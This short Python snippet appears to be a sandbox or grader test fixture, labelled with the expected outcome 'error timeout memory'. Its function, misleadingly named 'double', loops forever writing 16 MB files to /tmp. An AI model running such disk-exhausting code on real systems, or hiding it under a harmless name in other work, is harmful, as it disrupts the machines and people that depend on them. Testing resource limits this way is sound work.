# error timeout memory
def double(x):
    number = 0
    while True:
        number += 1
        with open(f"/tmp/{number}", "wb") as opened:
            opened.write(bytes(1 << 24))
